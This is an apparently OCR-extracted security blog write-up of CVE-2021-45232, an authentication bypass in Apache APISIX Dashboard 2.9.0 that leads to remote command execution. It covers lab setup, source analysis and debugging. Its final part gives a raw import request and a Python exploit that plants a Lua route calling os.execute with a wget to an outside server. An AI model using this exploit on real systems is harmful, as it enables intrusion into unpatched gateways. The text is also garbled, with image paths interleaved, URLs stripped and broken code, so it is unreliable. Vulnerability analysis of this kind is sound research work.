CVE-2021-45232: Apache APISIXDashboard Unauthorized Access & Unauth-RCE

15 minute read


Apache APISIX Dashboard before 2.10.1 is vulnerable to Unauthorized Access Vulnerability known as CVE-2021-45232, The authentication middleware was developed based on the droplet framework. But, some APIs used the gin framework directly as a results it leads for a bypass in authentication & a successfully exploitation for this vulnerability let the attacker to abuse the support of executing lua script to execute commands on the server.

What is APISIX ?

Apache APISIX is a cloud native API gateway that provides high-performance and scalable API management solutions. It is built on top of the Nginx web server and provides a simple and flexible architecture for managing and securing APIs. The APISIX Dashboard is a web based user interface for managing and monitoring APISIX instances. It provides an intuitive and easy-to-use interface for configuring APIs, plugins, and routes, as well as monitoring API usage and performance.

Testing Lab

Now, It’s time to set up our lab for the analysis, I am going to use an older version for the analysis which is 2.9.0 as it’s vulnerable. We can see that apache has an official repo on github to run APISIX on docker and here we can avoid building errors and problems. First, Clone into the repo:

git clone

After that, Navigate to example folder inside apisix-docker folder. Then, Open the docker-compose.yml file and replace the apisix-dashboard image with the following image:


Full example :version: "3"

    image: apache/apisix-dashboard:2.9.0
    restart: always
    - ./dashboard_conf/conf.yaml:/usr/local/apisix-dashboard/conf/conf.yaml
    - "9000:9000"

After that inside the example folder run the following command to start our apisix on docker:

docker-compose -p docker-apisix up -d

As it’s done let’s check the running process on docker:

Now, Let’s test if it works [IP]:9000/ for the APISIX dashboard & [IP]:9080/ for the APISIX.

  • Dashboard


Static Analysis

Under the api folder in the source code, We can see the main.go which is the start ofthe dashboard app, By opening it we can see the following:

We can notice here it’s importing the cmd module from the manager-api package which is the cmd folder under the same folder, Then, It calls Execute() function from cmd. Therefore, We need to go to the cmd folder and check the Execute() function.

After going through the files we can see the Execute() function is in root.go. And basically, It’s executing rootCmd.Execute() and check if there is any errors returned to handle it. Whenwe search for the rootCmd.

We can see clearly that rootCmd is a variable definition of a CLI from Cobra library which is a command-line library for Go and It provides a simple & efficient way to create modern CLI applications that can handle commands,flags, and arguments. The &cobra.Command function creates a new command with the specified options as the following:

  • Use: It’s a field specifies the name and usage of the command.

  • Short: It’s a field that provides a brief description of the command.

  • RunE: it’s field of a function that gets called when the command is executed, In our case the function it takes argument and gonna execute the manageAPI() function.

When we scroll down more under the Init() function, We can see the following lines:

We can see it’s adding persistent flags to the rootCmd and registering several sub-commands (Also can called functions) with it as the following:

  • newVersionCommand(): which adds a version sub-command• newInstallCommand(): which adds an install sub-command• newRemoveCommand(): which adds a remove sub-command

  • newStartCommand(): which adds a start sub-command

  • newStopCommand(): which adds a stop sub-command

  • newStatusCommand(): which adds a status sub-command

And all of these added sub-commands are added from the files under the same directory as we can see:

Now, Let’s go to the function that gets executed when we running the rootCmd which is the manageAPI() function:

Now, Let’s explain the function. First, it initializes the configuration and logger by calling the conf.InitConf() and log.InitLogger() functions. Then, it creates a new server object using the server.NewServer() function and assign it to the s variable which is a server type and err variable for error & passing in options that include whether to force start the server or not. After that, The server is then started by calling the s.Start() function, which creates a go routine and listens for incoming HTTP requests and then sets up a quit channel that listens for an interrupt signal and if received, it stops the server gracefully by calling the s.Stop() function and exits the program & If an error occurs during server startup the function logs the error and returns it. Now, When we go up to the imports line we can notice the following:

That the server is implemented from api/internal/core/server/server.go. Let’s take a look on it:After the imports of needed modules, we can see it defines a struct of server type and it defines the HTTP server and its associated options. Then, The Options struct is used to specify the configuration options for the server. After that a function named NewServer that creates a new server manager by taking an instance of the Options struct as input and return a pointer to a server struct and an error.

In the following lines, We can see the Start() function that called before inside the mangerAPI() function.

the Start() function starts with initializing the server through s.init() and assign the error to err object & if there is an error it will immediately assign it to errSig and exit. Now, After the server initialized it will print server info using s.printInfo(), Then starts the HTTP server through s.server.ListenAndServe() & Then it will start the HTTP Server implemented with the SSL if it’s configured. Moving to the following lines we will be able to see the following 2 functions:

First, Which is Stop() function and basically it will close the opened connections & then shutdown the server. And second, init() functionwhich is important for us, In the function it calls s.SetupStore() which is responsible for managing data persistence for the Manager API and it can be found in store.go file under the same folder and it’s just initializing the Store. Second, the init() function also calls the s.setupAPI() and we can find the setupAPI() function inside the http.go file under the same folder:Here the droplet framework is used, droplet.Option.Orchestrator function takes a slice of middleware and returns a new slice of middleware that will be used in the order specified. the first middleware in the slice of middleware passed in. Then the handler.ErrorTransformMiddleware{} middleware that transforms all errors returned by handlers to the standard API error format. Finally, the filter.AuthenticationMiddleware{} middleware that authenticates requests based on the access token in the Authorization header. and by defining the middleware in this way, it ensures that error transformation and authentication will be performed before any other middleware processing. So, for the following examples we gonna see how the wrong implementation done:

  • 1st:

  • 2nd:In the 1st screenshot we can see that it’s wgin.Wraps() to wrap the function with the middleware so it can it check that error transformation and authentication will be performed before any other middleware processing. But, In the second screenshot it’s not wrapping the function with the middleware. As a result we can get unauthorized access to these 2 routes which are /apisix/admin/migrate/export & /apisix/admin/migrate/import. Let’s try to access a route from the wrapped ones and access the non-wrapped ones to se how the application will deal with it.

  • Wrapped

  • Non-Wrapped

Here we can see clearly that the wrapped one give us a response that we are unauthorized. BUt, the second one which is /apisix/admin/migrate/export route exported us the current configuration of APISIX.

Dynamic AnalysisNow, It’s time for dynamic analysis. First, for debugging go applications we need to download delve debugger. You can follow the installation guide from here. Let’s now build the dashboard on our local machine to debug it. First we would need the following packages before we start building golang-go, yarn, nodejs, etcd:

sudo apt install golang-go yarn nodejs

And for installing ectd follow the installation guide from here. After the packages get installed let’s download our vulnerable version:

git clone -b release/2.9.0 && cd apisix-dashboard

After that run the following command sudo make build to build the app dashboard. After it’s finished Let’s go tooutput directory:

We can see the manager-api which is the dashboard app. Now, It’s time to execute the app using delve to debug it remote;y from our GoLand IDE. You can find delve binary under the go/bin directory under your linux user home. Let’s run delve:

sudo /home/kali/go/bin/dlv -l=:2345 --headless=true --api-version=2 --log=true exec ./manager-api

Here we run delve to execute the app and listen for debugging session on port 2345 as we can see:

Now, Let’s connect to the debugger session on our IDE, go to Run Tab and then click on Edit Configurations:

Then Click on the + add sign and choose Go Remote:

And Name it as you want & configure the remote debugger, By adding the machine IP, Debugging port which is 2345:

Now, Click on OK and you can see that our remote debugger is configured:

It’s time to set a breakpoints, First we will set a breakpoint to the wrapped route and take a look how the app deal with it & then the un-wrapped one to see the difference.

As we can see our debugger is running, Let’s debug our code and see how it will apply route for each one. While we stepping over under the r which is a pointer for route we can see tress which is gin.methoidTrees:

Under it we can see integer values and each number is carrying all the different routes according to the methods

Here we can see see that each the 5 HTTP methods are exist and under the root of each one, We can see the children tab which contains the exact routes:

Here we can see theroutes also stored inside it. Now, As we saw the way of ApplyRoute and how it’s applying routes to initialize it, Let’s see how the difference between the wrapped route and un-wrapped route on the loading. But, This time we will add the breakpoint under the Wrap function from the gin framework:

After setting our breakpoint let’s run our debugger again and moving step by step until we arrive to the Wrap function.

Here as we can see when the breakpoint of the Wraps funtion got hit it started to Wraps it and apply the middleware to it and as the following 2 routes are not Wrapped the authentication can be bypassed as it’s gonna apply and execute it without wrapping:

r.GET("/apisix/admin/migrate/export", h.ExportConfig)
r.POST("/apisix/admin/migrate/import", h.ImportConfig)


Now, How the vulnerable routes can be exploited ?. As we mentioned before that the /apisix/admin/migrate/export used to export the current configurations, The /apisix/admin/migrate/import used to import configurations. And APISIX is supporting execution of lua scripts then, we can send a request of a malicious route that executes a command then request it. The configuration file is as the following:

It contains an array of routes, each with an ID, URIs, methods, and a Lua script. Additionally, there is an array of upstreams, each with a name, type, scheme, nodes, and timeout. Also arrays for consumers, services, SSLs, global plugins, and plugin configs. Now, Let’s get our malicious configration ready:


Basically, Here we set a route named /rce and it accepts all HTTP methods & Then, Under the script key we put the lua script as a command system to be executed, In this case it’s gonna request our the Pwn3d endpoint from our http server.

Normal Request:

POST /apisix/admin/migrate/import HTTP/1.1
User-Agent: UserAgents
Accept-Encoding: gzip, deflate
Accept: */*
Connection: close
Content-Length: 995
Content-Type: multipart/form-data;boundary=d63fe4d72d026b3884925933bababb59

Content-Disposition: form-data; name="mode"

Content-Disposition: form-data; name="file"; filename="test"

{"Counsumers": [], "Routes": [{"id": "387796883096994503", "create_time": 1640674554, "update_time": 1640677637, "uris": ["/rce"], "name": "rce", "methods": ["GET", "POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS", "CONNECT", "TRACE"], "script": "os.execute('wget')", "script_id": "387796883096994503", "upstream_id": "387796832866009799", "status": 1}], "Services": [], "SSLs": [], "Upstreams": [{"id": "387796832866009799", "create_time": 1640674524, "update_time": 1640674524, "nodes": [{"host": "", "port": 58344, "weight": 1}], "timeout": {"connect": 6, "read": 6, "send": 6}, "type": "roundrobin", "scheme": "http", "pass_host": "pass", "name": "testUpstream"}], "GlobalPlugins": [], "PluginConfigs": []}6ó

Here is our python code to send the request:

import requests
import json
import zlib

url = ""
gateway_url = ""
cmd = "wget"

def exploit(url, gateway_url, cmd):
    payload, err = gen(cmd)
    if err is not None:
    create_route(payload, url)

def request_endpoint(gateway_url):
    res = requests.get(gateway_url + "/rce")

def create_route(payload, url):
    files = {
        'file': ('test', payload)
    data ={
        'mode': 'overwrite'
    res = + '/apisix/admin/migrate/import', files=files, data=data)

def gen(cmd):
    data = {
        "Counsumers": [],
        "Routes": [
                "id": "387796883096994503",
                "create_time": 1640674554,
                "update_time": 1640677637,
                "uris": ["/rce"],
                "name": "rce",
                "methods": [
                "script": f"os.execute('{cmd}')",
                "script_id": "387796883096994503",
                "upstream_id": "387796832866009799",
                "status": 1
        "Services": [],
        "SSLs": [],
        "Upstreams": [
                "id": "387796832866009799",
                "create_time": 1640674524,
                "update_time": 1640674524,"nodes": [
                        "host": "localhost",
                        "port": 1337,
                        "weight": 1
                "timeout": {
                    "connect": 6,
                    "read": 6,
                    "send": 6
                "type": "roundrobin",
                "scheme": "http",
                "pass_host": "pass",
                "name": "testUpstream"
        "GlobalPlugins": [],
        "PluginConfigs": []

    json_data = json.dumps(data).encode('utf-8')
    checksum = zlib.crc32(json_data).to_bytes(4, byteorder='big')
